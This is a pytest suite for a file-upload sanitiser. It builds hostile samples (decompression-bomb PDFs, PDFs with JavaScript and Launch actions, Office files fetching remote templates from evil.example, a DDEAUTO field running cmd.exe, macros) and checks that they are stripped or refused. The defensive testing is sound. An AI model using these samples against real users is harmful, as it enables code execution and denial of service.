"""Files made to harm whoever opens them, as an attacker makes them; and what honest people send that looks alike."""

import io
import os
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pytest
from django.conf import settings
from docx import Document
from PIL import Image

from liem.intake import apart
from liem.intake.files import InMemory, cleaned_of
from liem.intake.harmless.refusing import Refused
from liem.intake.recordings import without_notes
from liem.intake.recordings.reading import Patch, patched
from liem.intake.refusals import RefusedFile

pytestmark = pytest.mark.slow

MEGABYTE = 1024 * 1024
LONG = 60.0
"""Seconds a hostile file may keep the house, on a machine with much else to do; without limits these take hours."""


def kept(data: bytes) -> bytes:
    return b"".join(cleaned_of(InMemory("sent", data)).pieces(lambda: iter([data])))


def refused(data: bytes) -> str:
    with pytest.raises(RefusedFile) as error:
        kept(data)
    return str(error.value)


def packed(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in ({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"} | parts).items():
            archive.writestr(name, data)
    return out.getvalue()


def unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zeros(megabytes: int) -> bytes:
    """So many, packed. One packed piece is set in again and again: packing gigabytes would take half a minute."""
    packing = zlib.compressobj(9)
    first, again = (packing.compress(bytes(MEGABYTE)) + packing.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    checksum = (megabytes * MEGABYTE % 65521) << 16 | 1
    return first + again * (megabytes - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")


def test_zeros_are_packed_as_by_anybody() -> None:
    assert zlib.decompress(zeros(3)) == bytes(3 * MEGABYTE)


PAGE = (
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R>>",
)


def pdf_of(*objects: bytes) -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        count, table, count, len(out),
    )  # fmt: skip


def stream(told: bytes, data: bytes) -> bytes:
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (told, len(data), data)


def pdf_with_swelling_index() -> bytes:
    out = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    told = b"/Type/XRef/Size 4/W[1 4 2]/Root 1 0 R/Filter/FlateDecode"
    return out + b"3 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (stream(told, zeros(4000)), len(out))


@pytest.mark.parametrize(
    ("part", "text"),
    [
        ("word/settings.xml", b"<w:rsids>"),
        ("word/x.xml", b"<author "),
        ("word/x.xml", b"<absPath "),
        ("word/x.xml", b'config:name="PrinterName"'),
        ("word/people.xml", b' name="a'),
        ("word/_rels/document.xml.rels", b"<Relationship Target=' "),
        ("content.xml", b"<draw:image xlink:href="),
    ],
)
def test_no_text_makes_the_search_in_it_endless(part: str, text: bytes) -> None:
    data = packed({part: text * 200_000, "word/media/x.bin": os.urandom(60_000)})
    assert len(data) < 120_000
    begun = time.monotonic()
    kept(data)
    assert time.monotonic() - begun < LONG


@pytest.mark.parametrize(
    "data",
    [
        pdf_of(*PAGE, stream(b"/Filter/FlateDecode", zeros(1000))),
        pdf_of(*PAGE, stream(b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(zeros(500), 9))),
        pdf_of(*PAGE, stream(b"/Filter[/ASCIIHexDecode/FlateDecode]", zeros(500).hex().encode() + b">")),
        pdf_of(*PAGE, stream(b"/Filter/LZWDecode", b"\x80" * 300_000)),
        pdf_of(*PAGE, stream(b"/Filter/RunLengthDecode", b"\x81A" * 4_000_000)),
        pdf_with_swelling_index(),
    ],
    ids=["packed", "packed twice", "packed and written out", "lzw", "run lengths", "index"],
)
def test_a_pdf_that_swells_is_refused_and_the_house_keeps_its_memory(data: bytes) -> None:
    begun = time.monotonic()
    assert len(refused(data)) > 20
    assert time.monotonic() - begun < LONG


def test_a_file_that_breaks_or_holds_its_reader_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "LONGEST", 0.01)
    with pytest.raises(Refused):
        apart.cleaned("text", b"x")


def test_what_reads_a_hostile_file_opens_no_file_no_connection_and_has_no_secret() -> None:
    tried = (
        "import os, socket\nfrom liem.intake.harmless.__main__ import _shut_in\n_shut_in()\n"
        "for act in (lambda: open('/etc/passwd'), socket.socket, lambda: os.pipe(), lambda: bytearray(1 << 31)):\n"
        "    try:\n        act()\n        print('done')\n    except (OSError, MemoryError):\n        print('refused')\n"
    )
    told = subprocess.run([sys.executable, "-c", tried], capture_output=True, text=True, check=True)
    assert told.stdout.split() == ["refused"] * 4


def test_the_process_that_reads_is_told_no_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    seen = {}

    def run(command: list[str], **more: object) -> subprocess.CompletedProcess[bytes]:
        seen.update(more)
        return subprocess.CompletedProcess(command, 0, b'{"media_type": "text/plain", "ending": "txt"}\nx')

    monkeypatch.setenv("LIEM_WEB_DSN", "host=secret")
    monkeypatch.setattr(apart.subprocess, "run", run)
    apart.cleaned("text", b"x")
    surroundings = seen["env"]
    assert isinstance(surroundings, dict)
    assert not any(name.startswith(("LIEM", "DATABASE", "DJANGO")) for name in surroundings)


# ---- PDF ----


def with_exif() -> bytes:
    picture, out = Image.new("RGB", (64, 48), "red"), io.BytesIO()
    exif = picture.getexif()
    exif[0x010F] = "SecretPhone"
    picture.save(out, "JPEG", exif=exif)
    return out.getvalue()


def whole(data: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        streams = [one.read_raw_bytes() for one in pdf.objects if isinstance(one, pikepdf.Stream)]
        return b"".join([repr(one).encode() for one in pdf.objects] + streams + [repr(pdf.trailer).encode(), data])


def acting_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0]
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="SecretScript()")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="SecretProgram.exe")
    item = pdf.make_indirect(pikepdf.Dictionary(Title="SecretBookmark", A=launch))
    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(First=item, Last=item, Count=1))
    attached = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec, F="x.exe", EF=pikepdf.Dictionary(F=pikepdf.Stream(pdf, b"MZ SecretAttachment"))
        )
    )
    pdf.Root.AF = pikepdf.Array([attached])
    page.AF = pikepdf.Array([attached])
    pdf.Root.StructTreeRoot = pdf.make_indirect(pikepdf.Dictionary(K=pikepdf.Dictionary(A=script)))
    pdf.Root.Perms = pikepdf.Dictionary(DocMDP=pikepdf.Dictionary(Name="SecretSigner"))
    page.AA = pikepdf.Dictionary(O=script)
    page.VP = pikepdf.Array([pikepdf.Dictionary(Measure=pikepdf.Dictionary(GPTS=pikepdf.Array([19.8067, 105.7852])))])
    picture = pikepdf.Stream(pdf, zlib.compress(with_exif()))
    picture.Type, picture.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    picture.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.DCTDecode])
    picture.Width, picture.Height, picture.ColorSpace, picture.BitsPerComponent = 64, 48, pikepdf.Name.DeviceRGB, 8
    picture.Metadata = pikepdf.Stream(pdf, b"<x>SecretXmp</x>")
    form = pikepdf.Stream(pdf, b"0 0 10 10 re f")
    form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 10, 10])
    form.PieceInfo = pikepdf.Dictionary(Drawer=pikepdf.Dictionary(Private="SecretDrawing"))
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=picture, Fm0=form))
    page.Contents = pikepdf.Stream(pdf, b"/Im0 Do /Fm0 Do")
    pdf.trailer.ID = pikepdf.Array([pikepdf.String("SecretIdentifier"), pikepdf.String("SecretIdentifier")])
    out = io.BytesIO()
    pdf.save(out, static_id=False)
    return out.getvalue()


def test_a_pdf_keeps_nothing_that_acts_is_attached_or_tells_of_its_making() -> None:
    sent = acting_pdf()
    assert b"SecretScript" in whole(sent)
    fresh = kept(sent)
    left = whole(fresh)
    for word in (b"Secret", b"19.8", b"/JavaScript", b"/Launch", b"/EF", b"/AA", b"/Outlines"):
        assert word not in left, word
    with pikepdf.open(io.BytesIO(sent)) as before, pikepdf.open(io.BytesIO(fresh)) as after:
        assert before.trailer.ID[0] != after.trailer.ID[0]
        picture = pikepdf.PdfImage(after.pages[0].Resources.XObject.Im0).as_pil_image()
        assert picture.size == (64, 48)


def test_a_stamp_and_a_filled_field_stay_seen() -> None:
    """The red seal of a digitally signed decision is an annotation: without it the paper proves nothing."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    seal = pikepdf.Stream(pdf, b"1 0 0 rg 0 0 50 50 re f")
    seal.Type, seal.Subtype, seal.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 50, 50])
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Sig, T="Signature1", F=4,
            Rect=pikepdf.Array([10, 10, 60, 60]), AP=pikepdf.Dictionary(N=seal),
            V=pikepdf.Dictionary(Name="SecretName"),
            A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="SecretScript()"),
        )
    )  # fmt: skip
    pdf.pages[0].Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), SigFlags=3)
    out = io.BytesIO()
    pdf.save(out)
    fresh = kept(out.getvalue())
    assert b"Secret" not in whole(fresh)
    with pikepdf.open(io.BytesIO(fresh)) as after:
        page = after.pages[0]
        contents = page.Contents if isinstance(page.Contents, pikepdf.Array) else [page.Contents]
        drawn = b"".join(one.read_bytes() for one in contents)
        name = next(iter(page.Resources.XObject.keys()))
        assert name.encode() + b" Do" in drawn
        assert b"1 0 0 rg" in page.Resources.XObject[name].read_bytes()


# ---- office ----

RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
KINDS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relation(kind: bytes, target: bytes, mode: bytes = b"External") -> bytes:
    return b'<Relationship Id="r1" Type="%s%s" Target="%s" TargetMode="%s"/>' % (KINDS, kind, target, mode)


@pytest.mark.parametrize(
    "told",
    [
        relation(b"attachedTemplate", b"https://evil.example/t.dotm"),
        relation(b"attachedTemplate", b"&#104;ttps://evil.example/t.dotm"),
        relation(b"image", rb"\\evil.example\share\x.png"),
        relation(b"oleObject", b"http://evil.example/x.rtf"),
        relation(b"externalLinkPath", b"file:///C:/Users/evil.example/book.xlsx"),
        relation(b"hyperlink", b"javascript:evil.example"),
        relation(b"frame", b"https://evil.example/x").replace(b'"', b"'"),
        relation(b"image", b"https://evil.example/x").replace(b"Target=", b"Target = "),
    ],
)
def test_an_office_file_fetches_nothing_when_it_is_opened(told: bytes) -> None:
    parts = unpacked(kept(packed({"word/_rels/document.xml.rels": RELATIONS % told})))
    assert b"evil.example" not in parts["word/_rels/document.xml.rels"]


def test_links_that_a_reader_follows_stay() -> None:
    told = relation(b"hyperlink", b"https://dichvucong.gov.vn/") + relation(b"image", b"media/a.png", b"Internal")
    parts = unpacked(kept(packed({"word/_rels/document.xml.rels": RELATIONS % told})))
    assert parts["word/_rels/document.xml.rels"] == RELATIONS % told


@pytest.mark.parametrize(
    ("parts", "word"),
    [
        ({"[Content_Types].xml": b'<Types><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.'
          b'vbaProject"/></Types>', "word/a.bin": b"x"}, "macro"),
        ({"[Content_Types].xml": b'<Types><x ContentType="application/vnd.ms-excel.macrosheet"/></Types>'}, "macro"),
        ({"word/_rels/document.xml.rels": b'<R Type="http://x/vba&#80;roject"/>'}, "macro"),
        ({"word/activeX/activeX1.xml": b"<x/>", "[Content_Types].xml": b'<T x="application/vnd.ms-office.activeX"/>'},
         "macro"),
        ({"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><w>&a;</w>'}, "PDF"),
        ({"word/document.xml": '<?xml version="1.0"?><w w:author="Secret"/>'.encode("utf-16")}, "PDF"),
        ({"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?><w/>'}, "PDF"),
        ({"word/_rels/document.xml.rels": RELATIONS % relation(b"aFChunk", b"x.html", b"Internal")}, "PDF"),
    ],
)  # fmt: skip
def test_an_office_file_with_programs_or_hidden_ways_is_refused(parts: dict[str, bytes], word: str) -> None:
    assert word in refused(packed(parts))


def test_objects_of_other_programs_are_emptied_and_tables_behind_charts_lose_their_author() -> None:
    table = packed({"docProps/core.xml": b"<dc:creator>SecretAuthor</dc:creator>", "xl/workbook.xml": b"<x>7</x>"})
    parts = unpacked(
        kept(
            packed(
                {
                    "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1SecretProgram",
                    "word/embeddings/Book1.xlsx": table,
                    "word/embeddings/x.zip": packed({"[Content_Types].xml": b"", "a.exe": b"MZ"}).replace(
                        b"word/", b"none/"
                    ),
                }
            )
        )
    )
    assert parts["word/embeddings/oleObject1.bin"] == b""
    assert parts["word/embeddings/x.zip"] == b""
    inner = unpacked(parts["word/embeddings/Book1.xlsx"])
    assert inner["xl/workbook.xml"] == b"<x>7</x>"
    assert b"Secret" not in b"".join(inner.values())


def test_fields_that_start_programs_lose_their_instruction_and_others_keep_it() -> None:
    starting = b"<w><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd.exe evil</w:instrText><w:t>9</w:t></w>"
    counting = b'<w><w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" NUMPAGES "/></w>'
    parts = unpacked(kept(packed({"word/document.xml": starting, "word/footer1.xml": counting})))
    assert b"evil" not in parts["word/document.xml"]
    assert b"<w:t>9</w:t>" in parts["word/document.xml"]
    assert parts["word/footer1.xml"] == counting


def test_an_open_document_fetches_nothing_and_runs_nothing() -> None:
    content = (
        b'<o><draw:image xlink:href="https://evil.example/a.png"/><draw:image xlink:href="Pictures/a.png"/>'
        b'<text:a xlink:href="https://dichvucong.gov.vn/">x</text:a>'
        b'<text:a xlink:href="vnd.sun.star.script:evil">y</text:a>'
        b'<script:event-listener xlink:href="evil"/></o>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content)
    fresh = unpacked(kept(out.getvalue()))["content.xml"]
    assert b"evil" not in fresh
    assert b"Pictures/a.png" in fresh
    assert b"https://dichvucong.gov.vn/" in fresh


def test_a_real_text_with_a_link_and_a_picture_opens_afterwards() -> None:
    document = Document()
    document.add_paragraph("Họ đòi ba triệu đồng.")
    document.add_picture(io.BytesIO(with_exif()))
    out = io.BytesIO()
    document.save(out)
    fresh = Document(io.BytesIO(kept(out.getvalue())))
    assert fresh.paragraphs[0].text == "Họ đòi ba triệu đồng."
    assert len(fresh.inline_shapes) == 1


# ---- what people send that is not taken, and what looks alike ----


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (b"\0\0\0\x18ftypheic" + bytes(100), "HEIC"),
        (b"\0\0\0\x18ftyphevc" + bytes(100), "HEIC"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), ".docx"),
        (b"{\\rtf1{\\info{\\author Secret}} xin chao}", ".docx"),
        (b"Rar!\x1a\x07\x00" + bytes(60), "tệp nén"),
        (b"7z\xbc\xaf\x27\x1c" + bytes(60), "tệp nén"),
    ],
)
def test_what_people_often_send_is_refused_with_what_they_can_do(data: bytes, word: str) -> None:
    assert word in refused(data)


def test_a_picture_with_too_many_pixels_is_not_called_damaged() -> None:
    out = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(out, "PNG")
    assert "điểm ảnh" in refused(out.getvalue())


def test_a_photo_of_a_telephone_with_a_hundred_megapixels_is_taken() -> None:
    out = io.BytesIO()
    Image.new("L", (12_000, 9_000)).save(out, "JPEG", quality=20)
    assert max(Image.open(io.BytesIO(kept(out.getvalue()))).size) <= 4000


@pytest.mark.parametrize(
    ("mode", "form"), [("I;16", "PNG"), ("CMYK", "JPEG"), ("LA", "PNG"), ("P", "GIF"), ("1", "PNG")]
)
def test_every_kind_of_picture_is_drawn_anew(mode: str, form: str) -> None:
    out = io.BytesIO()
    Image.new(mode, (40, 30)).save(out, form)
    assert Image.open(io.BytesIO(kept(out.getvalue()))).size == (40, 30)


def test_a_grey_scan_in_sixteen_bits_stays_grey() -> None:
    out = io.BytesIO()
    Image.new("I;16", (4, 4), 0x8000).save(out, "PNG")
    assert Image.open(io.BytesIO(kept(out.getvalue()))).convert("L").getpixel((1, 1)) == 128


@pytest.mark.parametrize(("head", "frame"), [(b"#!AMR\n", b"\x3c" + b"\1" * 31), (b"#!AMR-WB\n", b"\x24" + b"\1" * 40)])
def test_a_voice_of_an_old_telephone_keeps_its_frames_and_nothing_else(head: bytes, frame: bytes) -> None:
    assert kept(head + frame * 500 + b"\xff Secret notes") == head + frame * 500
    with pytest.raises(RefusedFile):
        kept(head + b"\xff" * 50)


def test_a_recording_of_millions_of_parts_is_walked_once() -> None:
    patches = [Patch(8 * number, 8 * number + 4) for number in range(200_000)]
    begun = time.process_time()
    assert sum(map(len, patched([bytes(65536)] * 50, patches))) == 50 * 65536
    assert time.process_time() - begun < 15


def test_a_film_fetches_nothing_from_elsewhere() -> None:
    def box(kind: bytes, *parts: bytes) -> bytes:
        body = b"".join(parts)
        return (len(body) + 8).to_bytes(4, "big") + kind + body

    where = box(b"dref", bytes(7) + b"\1", box(b"url ", bytes(4) + b"http://evil.example/film.mp4\0"))
    media = box(b"mdia", box(b"hdlr", bytes(8) + b"vide" + bytes(12)), box(b"minf", box(b"dinf", where)))
    data = box(b"ftyp", b"isom" + bytes(4)) + box(b"moov", box(b"trak", media)) + box(b"mdat", b"x")
    fresh = b"".join(without_notes("video/mp4", lambda: iter([data])))
    assert b"evil" not in fresh
    assert fresh[fresh.index(b"url ") + 4 :][:4] == bytes(3) + b"\1"


def test_a_film_whose_index_points_everywhere_is_walked_once() -> None:
    def box(kind: bytes, body: bytes) -> bytes:
        return (len(body) + 8).to_bytes(4, "big") + kind + body

    count = 50_000
    runs = b"".join(number.to_bytes(4, "big") + bytes(8) for number in range(1, count + 1))
    table = (
        box(b"stsz", bytes(12))
        + box(b"stsc", bytes(4) + count.to_bytes(4, "big") + runs)
        + box(b"stco", bytes(4) + count.to_bytes(4, "big") + bytes(4 * count))
    )
    track = box(b"trak", box(b"mdia", box(b"hdlr", bytes(8) + b"meta" + bytes(12)) + box(b"minf", box(b"stbl", table))))
    data = box(b"ftyp", b"isom" + bytes(4)) + box(b"moov", track) + box(b"mdat", b"x")
    begun = time.process_time()
    b"".join(without_notes("video/mp4", lambda: iter([data])))
    assert time.process_time() - begun < 15


def test_nothing_of_a_file_is_left_on_disk_by_reading_it(tmp_path: Path) -> None:
    home = Path(settings.LIEM_HOME)
    before = {path for path in home.rglob("*") if path.is_file() and "postgres" not in path.parts}
    kept(with_exif())
    assert {path for path in home.rglob("*") if path.is_file() and "postgres" not in path.parts} == before
